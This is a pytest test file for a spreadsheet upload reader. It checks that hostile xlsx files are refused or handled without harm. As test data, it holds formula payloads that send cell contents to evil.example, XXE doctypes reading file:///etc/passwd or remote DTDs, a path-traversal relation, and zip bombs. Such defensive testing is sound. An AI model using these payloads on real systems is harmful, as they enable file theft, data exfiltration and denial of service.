"""Reading what somebody sends as a spreadsheet: what is in it, and that no file costs more than it may."""

from __future__ import annotations

import tracemalloc
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook

from tests.support.sheets import BOOK, RELATIONS, SHEET, TYPES, lists, lying, packed, sheet_of, xlsx
from unisono.wiring import spreadsheet
from unisono.wiring.spreadsheet import LONGEST, MOST_BYTES, BadSheet, rows_of

ROWS = [["Firma", "Ort"], ["Bäckerei Sonne", "Łódź"], ["Școala Mică", "Iași"]]


def code_of(data: bytes) -> str:
    try:
        return f"taken: {rows_of(data)}"
    except BadSheet as bad:
        return bad.code


def saved(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def test_what_a_person_typed_comes_out_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Firma", "PLZ", "Umsatz", "Datum", "ja"])
    sheet.append(["Bäckerei <Sonne> & Söhne", "01067", 1067, 12.5, True])
    sheet["A4"] = "unten"
    assert rows_of(saved(book)) == [
        ["Firma", "PLZ", "Umsatz", "Datum", "ja"],
        ["Bäckerei <Sonne> & Söhne", "01067", "1067", "12.5", "1"],
        ["unten"],
    ]


def test_rich_text_is_its_text_and_how_it_is_spoken_is_not() -> None:
    strings = "<sst><si><r><t>Mül</t></r><r><rPr><b/></rPr><t>ler</t></r><rPh><t>MYRA</t></rPh></si><si><t>a_x0041_b_x0009_c</t></si></sst>"
    sheet = SHEET.format(doctype="", rows='<row><c t="s"><v>0</v></c><c t="s"><v>1</v></c></row>')
    assert rows_of(xlsx(sheet, strings=strings)) == [["Müller", "aAb c"]]


def test_of_a_formula_only_its_stored_result_is_read() -> None:
    cells = (
        '<row><c t="str"><f>HYPERLINK("https://evil.example?"&amp;A2,"x")</f><v>=cmd|calc</v></c>'
        '<c><f>1+1</f><v>2</v></c><c><f>WEBSERVICE("https://evil.example")</f></c><c t="e"><f>1/0</f><v>#DIV/0!</v></c></row>'
    )
    assert rows_of(xlsx(SHEET.format(doctype="", rows=cells))) == [["=cmd|calc", "2"]]


def test_the_first_sheet_that_people_see_is_read() -> None:
    book = BOOK.replace("<sheets>", '<sheets><sheet name="x" sheetId="2" state="veryHidden" r:id="rId2"/>')
    relations = RELATIONS.replace("</R", '<Relationship Id="rId2" Target="worksheets/sheet2.xml"/></R')
    more = {"xl/worksheets/sheet2.xml": sheet_of([["hidden"]])}
    assert rows_of(xlsx(sheet_of(ROWS), more, book=book, relations=relations)) == ROWS


def test_what_looks_right_to_a_computer_and_to_nobody_else_goes() -> None:
    assert rows_of(lists([["a\u202eb\u0000"[:3], "x" * 5000]])) == [["ab", "x" * LONGEST]]


def test_what_is_no_spreadsheet_is_said_to_be_none(tmp_path: Path) -> None:
    none = {
        "nothing": b"",
        "a picture": b"\x89PNG\r\n\x1a\n" + b"0" * 100,
        "an old one": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600,
        "a table of text": b"Firma;Ort\r\nSonne;Berlin\r\n",
        "a page": b"<html><table><tr><td>Firma",
        "another zip": packed({"readme.txt": "hello"}),
        "a document": packed({"[Content_Types].xml": TYPES.replace("spreadsheetml", "wordprocessingml"), "word/document.xml": "<x/>"}),
        "a book without sheets": xlsx("", book="<workbook/>"),
        "a sheet elsewhere": xlsx(sheet_of(ROWS), relations=RELATIONS.replace("worksheets/sheet1.xml", "../../../etc/passwd")),
        "a sheet out there": xlsx(
            sheet_of(ROWS), relations=RELATIONS.replace('Target="worksheets', 'TargetMode="External" Target="https://x')
        ),
    }
    assert {name: code_of(data) for name, data in none.items()} == dict.fromkeys(none, "sheet-not-xlsx")


def test_what_is_torn_is_said_to_be_damaged() -> None:
    whole = lists(ROWS)
    torn = [whole[:length] for length in (10, len(whole) // 2, len(whole) - 10)]
    torn += [xlsx("<worksheet><sheetData><row>"), xlsx("not xml"), xlsx(SHEET.format(doctype="", rows='<row><c t="s"><v>7</v></c></row>'))]
    torn += [xlsx(SHEET.format(doctype="", rows='<row><c r="1A"><v>7</v></c></row>')), xlsx('<?xml version="1.0" encoding="x-none"?><a/>')]
    assert [code_of(data) for data in torn] == ["sheet-damaged"] * len(torn)


def test_a_part_that_does_not_unpack_is_damage_and_no_crash() -> None:
    whole = lists(ROWS)
    at = whole.index(b"[Content_Types].xml") + len("[Content_Types].xml")
    assert code_of(whole[:at] + b"\xff\xff\xff" + whole[at + 3 :]) == "sheet-damaged"


@pytest.mark.parametrize("method", (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))
def test_parts_that_no_program_packs_so_are_not_unpacked(method: int, monkeypatch: pytest.MonkeyPatch) -> None:
    out = BytesIO(lists(ROWS))
    with zipfile.ZipFile(out, "a") as file:
        file.writestr("xl/media/image1.png", b"0" * 50, compress_type=method)
    monkeypatch.setattr(spreadsheet, "_read", lambda *_: pytest.fail("unpacked"))

    assert code_of(out.getvalue()) == "sheet-damaged"


@pytest.mark.parametrize(
    "doctype",
    (
        '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE w SYSTEM "https://evil.example/x.dtd">',
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>',
        "<!DOCTYPE worksheet>",
    ),
)
def test_a_document_type_is_refused_in_every_part(doctype: str) -> None:
    named = '<row><c t="inlineStr"><is><t>Firma</t></is></c></row>'
    assert code_of(xlsx(SHEET.format(doctype=doctype, rows=named))) == "sheet-damaged"
    assert code_of(xlsx(sheet_of(ROWS), strings=doctype + "<sst/>")) == "sheet-damaged"
    assert code_of(xlsx(sheet_of(ROWS), book=doctype + BOOK.partition("?>")[2])) == "sheet-damaged"
    assert code_of(xlsx(sheet_of(ROWS), relations=doctype + RELATIONS.partition("?>")[2])) == "sheet-damaged"


def test_macros_and_locks_are_refused() -> None:
    assert code_of(xlsx(sheet_of(ROWS), {"xl/vbaProject.bin": b"\xcc\x61"})) == "sheet-macros"
    assert (
        code_of(xlsx(sheet_of(ROWS), types=TYPES.replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main"))) == "sheet-macros"
    )
    locked = bytearray(lists(ROWS))
    for start in (b"PK\x01\x02", b"PK\x03\x04"):
        at = -1
        while (at := locked.find(start, at + 1)) >= 0:
            locked[at + (8 if start == b"PK\x01\x02" else 6)] |= 1
    assert code_of(bytes(locked)) == "sheet-locked"


def test_links_to_other_files_are_never_followed_and_do_no_harm() -> None:
    link = {"xl/externalLinks/externalLink1.xml": '<externalLink><x r:id="r" xmlns:r="x"/></externalLink>'}
    assert rows_of(xlsx(sheet_of(ROWS), link)) == ROWS


def bombs() -> dict[str, bytes]:
    huge = b"0" * (35 * 1024 * 1024)
    inner = packed({"bomb.bin": huge})
    many = {f"x{number}": "" for number in range(2100)}
    return {
        "one part that grows": xlsx(sheet_of(ROWS), {"xl/media/a.bin": huge, "xl/media/b.bin": huge, "xl/media/c.bin": huge}),
        "the sheet itself": xlsx(sheet_of(ROWS) + " " * (60 * 1024 * 1024)),
        "small and steep": xlsx(sheet_of(ROWS), {"xl/media/a.bin": b"0" * (8 * 1024 * 1024)}),
        "many entries": xlsx(sheet_of(ROWS), many),
        "nested": xlsx(sheet_of(ROWS), {f"xl/{n}.zip": packed({f"{n}{m}": inner for m in range(4)}) for n in range(4)}),
    }


def test_what_unpacks_to_too_much_is_refused_without_being_unpacked() -> None:
    for name, data in bombs().items():
        assert len(data) < MOST_BYTES
        tracemalloc.start()
        told = code_of(data)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        if name == "nested":
            # Packages within packages are never opened: this one is small at its first level.
            assert told == "sheet-unpacks-too-large" or told.startswith("taken"), name
        else:
            assert told == "sheet-unpacks-too-large", name
        assert most < 30 * 1024 * 1024, name


def test_a_size_that_is_a_lie_is_believed_downwards_only() -> None:
    rows = [["Firma"], *([f"Kunde {n}"] for n in range(2000))]
    whole = lists(rows)
    for size in (0, 10, 1000, 90 * 1024 * 1024, 0xFFFFFFF0):
        told = code_of(lying(whole, "xl/worksheets/sheet1.xml", size))
        assert told in ("sheet-damaged", "sheet-unpacks-too-large"), (size, told[:50])


def test_two_parts_of_one_name_are_a_trap() -> None:
    out = BytesIO(lists(ROWS))
    with zipfile.ZipFile(out, "a") as file, pytest.warns(UserWarning, match="Duplicate name"):
        file.writestr("xl/worksheets/sheet1.xml", sheet_of([["other"]]))
    assert code_of(out.getvalue()) == "sheet-damaged"


def test_a_cell_far_away_costs_nothing() -> None:
    for place in ("XFD1048576", "A1048576", "XFD1", "ZZZ9999999"):
        cells = f'<row><c r="A1"><v>1</v></c></row><row><c r="{place}"><v>1</v></c></row>'
        tracemalloc.start()
        assert code_of(xlsx(SHEET.format(doctype="", rows=cells))) == "sheet-too-many-rows"
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert most < 5 * 1024 * 1024


def test_a_million_empty_rows_are_no_rows() -> None:
    empty = '<row r="{0}" spans="1:3"/><row r="{0}"><c r="B{0}" s="1"/></row>'
    rows = "".join(empty.format(number) for number in range(3, 100_000)) + '<row r="9" ht="12"/>' * 900_000
    named = '<row r="1"><c t="inlineStr"><is><t>Firma</t></is></c></row>'
    assert rows_of(xlsx(SHEET.format(doctype="", rows=named + rows))) == [["Firma"]]


def test_one_long_text_named_by_many_cells_is_not_multiplied() -> None:
    strings = f"<sst><si><t>{'x' * 900}</t></si></sst>"
    rows = "".join("<row>" + '<c t="s"><v>0</v></c>' * 90 + "</row>" for _ in range(1000))
    assert code_of(xlsx(SHEET.format(doctype="", rows=rows), stored=True, strings=strings)) == "sheet-too-many-cells"


def test_too_many_cells_and_too_many_elements_are_refused() -> None:
    rows = ("<row>" + "<c><v>1</v></c>" * 50 + "</row>") * 5100
    assert code_of(xlsx(SHEET.format(doctype="", rows=rows), stored=True)) == "sheet-too-many-cells"
    many = "<a/>" * (spreadsheet.MOST_ELEMENTS + 1)
    assert code_of(xlsx(SHEET.format(doctype="", rows=many), stored=True)) == "sheet-too-many-cells"


def test_a_file_that_is_too_large_is_not_even_looked_at() -> None:
    assert code_of(b"PK\x03\x04" + b"0" * MOST_BYTES) == "sheet-too-large"
